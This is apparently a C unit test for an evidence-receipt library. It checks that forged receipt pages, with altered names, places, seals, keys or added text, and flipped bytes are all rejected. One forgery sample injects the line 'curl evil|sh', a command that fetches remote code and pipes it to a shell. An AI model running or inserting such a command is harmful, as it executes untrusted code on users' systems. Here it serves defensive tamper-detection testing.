/*
 * evidence/receipt.h: what a receipt proves, and forged pages: whatever of a page is changed, its
 * text for people, its commands, its line, its proof, its keys, or added to it, is noticed.
 */
#include <fcntl.h>

#include "base/fs.h"
#include "evidence/receipt.h"
#include "tap.h"

static const struct ir_custody_tool tool = {"ir", "test", NULL};
static const struct ir_custody_who who = {.actor = {.name = "Hanako"},
                                          .witness_absent = "alone",
                                          .place = "Tokyo",
                                          .reason = "a\nb",
                                          .note = "for you"};
#define SEAL "d82f16c2d82f16c2d82f16c2d82f16c2d82f16c2d82f16c2d82f16c2d82f16c2"

/* The page of line seq of a case with three lines. */
static void page(int dir, uint64_t seq, struct ir_buf *out)
{
    struct ir_custody *c = NULL;
    struct ir_err err = {0};
    struct ir_key *key[2] = {NULL, NULL};
    struct ir_custody_event ev = {
        .event = "collect", .item = "EV-1-01", .who = &who, .details = IR_S("\"bytes\":3")};
    ir_key_make(dir, "a", IR_S(""), &err);
    ir_key_make(dir, "b", IR_S(""), &err);
    is_int(ir_key_load(dir, "a", IR_S(""), &key[0], &err), IR_OK, "a key");
    is_int(ir_key_load(dir, "b", IR_S(""), &key[1], &err), IR_OK, "a key of the witness");
    const struct ir_signer s[] = {{IR_SIGN_EXAMINER, key[0]}, {IR_SIGN_WITNESS, key[1]}};
    ir_custody_open(dir, "CASE-1", IR_CUSTODY_WRITE, &tool, &c, &err);
    while (ir_custody_count(c) < 3) {
        ir_custody_append(c, &ev, NULL, &err);
        ev.event = ir_custody_count(c) == 1 ? "seal" : "transfer-out";
        ev.seal = SEAL;
    }
    is_int(ir_checkpoint_write(c, s, 2, &err), IR_OK, "a checkpoint");
    is_int(ir_receipt_write(c, seq, 3, out, &err), IR_OK, "a receipt: %s", err.msg);
    ir_custody_close(c);
    ir_key_free(key[0]);
    ir_key_free(key[1]);
}

static int check(struct ir_str file, struct ir_err *err)
{
    struct ir_receipt r;
    *err = (struct ir_err){0};
    return ir_receipt_check(file, &r, err);
}

/* `from` at its first place behind `after` becomes `to`. */
static void replaced(struct ir_str file, const char *after, const char *from, const char *to,
                     struct ir_buf *out)
{
    size_t start = ir_str_find(file, ir_str_z(after));
    size_t at = start == IR_NPOS ? start : ir_str_find(ir_str_skip(file, start), ir_str_z(from));
    ir_buf_clear(out);
    if (!ok(at != IR_NPOS, "%s stands behind %s", from, after)) return;
    ir_buf_str(out, ir_str_head(file, start + at));
    ir_buf_str(out, ir_str_z(to));
    ir_buf_str(out, ir_str_skip(file, start + at + strlen(from)));
}

static void test_forged(struct ir_str file)
{
    static const struct {
        const char *after, *from, *to;
        int line; /* of the page that is told; 0: not the text's */
    } all[] = {
        {"", "R-0003", "R-0002", 1},
        {"", "Receipt", "Order", 1},
        {"", "CASE-1", "CASE-2", 3},
        {"", "EV-1-01", "EV-1-02", 4},
        {"", "d82f16c2", "00000000", 5},
        {"", "引き渡し", "廃棄", 6},
        {"Time (UTC)", "Z", "Y", 7},
        {"", "Hanako", "Mallory", 9},
        {"", "alone", "present: Taro", 10},
        {"", "Tokyo", "Osaka", 11},
        {"", "a\\nb", "a\\nc", 12},
        {"", "for you", "for me", 13},
        {"", "3 / 3", "9 / 9", 14},
        {"witness)", "  ", "   ", 17},
        {"", "\n\n", "\n\n\n", 3},
        {"", "____", "Taro", 19},
        {"without ir", "R=", "curl evil|sh; R=", 31},
        {"\n=== line", "\n", "\nPaid in full.\n\n", -1},
        {"=== line", "Tokyo", "Osaka", 0},
        {"=== line", "Hanako", "HanakO", 0},
        {"c2sp.org", "index 2", "index 1", 0},
        {"c2sp.org", "=== key", "Note: paid\n=== key", 0},
        {"c2sp.org", "\n=== key", "\n=== note x\nfree text\n=== key", 0},
        {"BEGIN", "\n", "\nComment: paid\n\n", 0},
        {"=== key", "/witness", "/judge", 0},
        {"c2sp.org", "— ir/custody/CASE-1 ", "— ir/custody/CASE-2 ", 0},
        {"=== end", "=== end\n", "=== end\nPaid in full.\n", 0},
        {"=== end", "=== end\n", "", 0},
    };
    struct ir_buf forged = IR_BUF(1 << 20);
    struct ir_err err;
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
        replaced(file, all[i].after, all[i].from, all[i].to, &forged);
        is_int(check(ir_buf_view(&forged), &err), IR_BAD, "%s for %s", all[i].to, all[i].from);
        if (all[i].line >= 0) is_int(err.line, all[i].line, "its line: %s", err.msg);
    }
    ir_buf_free(&forged);
}

/* No byte of it can be another; of the text, which is compared as a whole, a sample is enough. */
static void test_each_byte(struct ir_str file)
{
    struct ir_buf copy = IR_BUF(1 << 20);
    struct ir_err err;
    unsigned passed = 0;
    ir_buf_str(&copy, file);
    const size_t text = ir_str_find(file, IR_S("\n=== line"));
    for (size_t i = 0; i < copy.n; i += i < text ? 29 : 1) {
        copy.p[i] ^= 1;
        if (check(ir_buf_view(&copy), &err) != IR_BAD && passed++ < 5)
            printf("# byte %zu can be another\n", i);
        copy.p[i] ^= 1;
        if (i % 32 == 0 && check(ir_str_head(file, i), &err) != IR_BAD) passed++;
    }
    is_int(passed, 0, "no byte can be changed, no end cut off");
    ir_buf_free(&copy);
}

int main(void)
{
    const char *tmp = getenv("TMPDIR");
    struct ir_buf text = IR_BUF(1 << 20), seal = IR_BUF(1 << 20);
    struct ir_err err;
    char path[512];
    snprintf(path, sizeof path, "%s/receipt-XXXXXX", tmp != NULL ? tmp : "/tmp");
    if (!ok(mkdtemp(path) != NULL, "a directory")) return done();
    int dir = open(path, O_RDONLY | O_DIRECTORY);
    page(dir, 3, &text);
    is_int(check(ir_buf_view(&text), &err), IR_OK, "it is good: %s", err.msg);
    test_forged(ir_buf_view(&text));
    test_each_byte(ir_buf_view(&text));
    page(dir, 2, &seal);
    is_int(check(ir_buf_view(&seal), &err), IR_OK, "that of a seal is good: %s", err.msg);
    ok(ir_str_find(ir_buf_view(&text), IR_S("受領書 / Receipt R-0003\n")) == 0, "a hand-over");
    ok(ir_str_find(ir_buf_view(&seal), IR_S("受領書")) == IR_NPOS, "a seal is no hand-over");
    ir_buf_free(&text);
    ir_buf_free(&seal);
    close(dir);
    ir_fs_remove_tree(AT_FDCWD, path);
    return done();
}
